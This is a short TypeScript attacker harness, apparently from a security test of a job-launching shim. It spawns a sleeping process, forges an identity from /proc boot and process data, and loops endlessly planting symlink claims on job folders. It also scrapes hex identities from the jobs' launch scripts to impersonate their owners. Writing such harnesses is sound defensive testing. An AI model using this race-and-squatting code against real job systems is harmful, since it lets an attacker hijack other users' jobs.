/**
 * Runs as the attacker: claims her own future jobs for one of her sleeping processes, as fast as a program
 * can. First it writes claims in the form of the first release. Once it can read the shim's script, it tries
 * every long hexadecimal word in the script as the identity.
 *
 *   squat.ts JOBS-FOLDER FIRST LAST
 */
import { spawn } from "node:child_process";
import { readFileSync, rmSync, symlinkSync } from "node:fs";

const [, , jobs, first, last] = process.argv;
const sleeper = spawn("sleep", ["600"], { stdio: "ignore" });
const boot = readFileSync("/proc/sys/kernel/random/boot_id", "utf8").trim();
const ticks = readFileSync(`/proc/${sleeper.pid}/stat`, "utf8")
  .replace(/^.*\) /s, "")
  .split(" ")[19];
const me = `${boot}:${sleeper.pid}:${ticks}`;
const attempt = (act: () => void) => {
  try {
    act();
  } catch {}
};
console.log("ready");
for (;;) {
  for (let job = Number(first); job <= Number(last); job++) {
    const folder = `${jobs}/${job}/1`;
    attempt(() => symlinkSync(me, `${folder}/claim`));
    attempt(() => {
      const [identity] = /\b[0-9a-f]{32}\b/.exec(readFileSync(`${folder}/launch`, "latin1")) ?? [];
      if (identity === undefined) return;
      rmSync(`${folder}/claim`, { force: true });
      symlinkSync(`${me}:${identity}`, `${folder}/claim`);
    });
  }
}
